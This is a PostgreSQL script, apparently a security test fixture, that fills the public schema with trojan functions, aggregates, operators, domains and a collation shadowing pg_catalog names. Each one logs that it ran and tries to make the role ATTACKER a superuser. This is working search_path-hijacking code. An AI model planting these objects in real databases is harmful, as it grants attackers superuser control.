-- What an attacker who may create objects in public lays there: functions, operators, aggregates, types and a collation
-- with the names of PostgreSQL's own, which are better matches or stand first in the search_path. Each of them counts that it
-- ran, which a rollback does not take back, and makes the role ATTACKER a superuser. Valid on PostgreSQL 12 to 18.

create role ATTACKER;
create sequence public.trojans_run;
create table public.trojans_seen (name text);
grant all on public.trojans_run, public.trojans_seen to public;

create function public.trojan(name text) returns void language plpgsql set search_path = pg_catalog as $$
begin
    perform nextval('public.trojans_run');
    insert into public.trojans_seen values (name);
    alter role ATTACKER superuser;
exception when insufficient_privilege then null;
end $$;

do $$
declare
    f record;
    names text[] := array['text', 'varchar', 'bpchar', 'name', 'uuid', 'boolean', 'bigint', 'integer', 'date', 'timestamp', '"char"',
        'oid', 'text[]', 'varchar[]'];
    l text;
    r text;
    o text;
begin
    -- Each function that a plain statement can call, and each that takes text for varchar too.
    for f in
        select p.proname, v.args, pg_get_function_result(p.oid) as result, bool_or(p.provariadic <> 0) as variadic
        from pg_proc p
        cross join lateral (
            values (pg_get_function_identity_arguments(p.oid)),
                (regexp_replace(pg_get_function_identity_arguments(p.oid), '\mtext\M', 'character varying', 'g'))
        ) v (args)
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset and p.proname ~ '^[a-z]'
            and pg_get_function_result(p.oid) ~
                '^(text|character varying|boolean|bigint|integer|name|uuid|date|timestamp without time zone|oid|text\[\]|name\[\])$'
            and pg_get_function_arguments(p.oid) !~ 'internal|any|cstring|"char"|OUT|INOUT|TABLE|pg_node_tree'
        group by 1, 2, 3
    loop
        begin
            execute format('create function public.%I(%s) returns %s language plpgsql as %L', f.proname, f.args, f.result,
                format('begin perform public.trojan(%L); return null; end', f.proname));
        exception when others then null; -- two with the same arguments
        end;
    end loop;
    -- Those with arguments of any type.
    foreach l in array array['concat_ws(text, varchar, varchar)', 'concat_ws(text, text, text)', 'concat_ws(text, text)', 'concat_ws(text, varchar)',
        'concat(text, text)', 'concat(varchar, varchar)', 'coalesce(text, text)', 'coalesce(varchar, varchar)', 'greatest(date, date)', 'trim(text)',
        'any(text[])', 'exists(boolean)', 'current_user()', 'session_user()', 'btrim(varchar)', 'ltrim(varchar)', 'rtrim(varchar)'] loop
        begin
            execute format('create function public.%s returns text language plpgsql as %L', regexp_replace(l, '^\w+', '"\&"'),
                format('begin perform public.trojan(%L); return null; end', l));
        exception when duplicate_function then null;
        end;
    end loop;
    foreach l in array array['text[]', 'varchar[]', 'name[]', 'bigint[]'] loop
        execute format('create function public.unnest(%s) returns setof text language plpgsql as %L', l, 'begin perform public.trojan(''unnest''); end');
    end loop;
    foreach l in array array['count', 'max', 'min', 'array_agg', 'string_agg', 'bool_or', 'sum'] loop
        execute format('create function public.%I(text, varchar) returns text language plpgsql as %L', 'step_' || l,
            format('begin perform public.trojan(%L); return null; end', l));
        execute format('create aggregate public.%I(varchar) (sfunc = public.%I, stype = text)', l, 'step_' || l);
    end loop;

    create function public.compare() returns boolean language plpgsql as 'begin perform public.trojan(''operator''); return null; end';
    foreach l in array names loop
        foreach r in array names loop
            execute format('create function public.compare(%s, %s) returns boolean language plpgsql as %L', l, r,
                'begin perform public.trojan(''operator''); return null; end');
            foreach o in array array['=', '<>', '<', '>', '<=', '>=', '/', '||', '~~', '~', '+', '-'] loop
                execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.compare)', o, l, r);
            end loop;
        end loop;
    end loop;

    create function public.is_fine(pg_catalog.text) returns boolean language plpgsql as 'begin perform public.trojan(''type''); return true; end';
    foreach l in array array['text', 'uuid', 'date', 'name', 'oid', 'regclass', 'regprocedure', 'varchar', 'bool', 'int8', 'int4', 'timestamp'] loop
        execute format('create domain public.%I as pg_catalog.%I check (public.is_fine(value::pg_catalog.text))', l, l);
    end loop;
end $$;
create collation public."C" from pg_catalog."C";
